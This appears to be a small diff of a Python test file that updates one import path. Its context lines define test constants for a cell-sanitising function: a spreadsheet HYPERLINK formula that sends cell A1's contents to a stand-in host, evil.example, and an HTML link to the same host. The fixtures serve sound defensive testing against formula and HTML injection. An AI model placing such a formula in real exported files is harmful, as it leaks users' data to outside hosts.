@@ -22,7 +22,7 @@ from backend.figures import build_figure
 from backend.figures.style import PLOTLY_CONFIG
 from backend.reports.render import safe_cell
 from pilot_cli.service import api_command
-from tests.backend.api_support import API, Api, create_pilot, finish, open_api
+from tests.support.api import API, Api, create_pilot, finish, open_api
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
 LINK = '<a href="https://evil.example">win</a>'
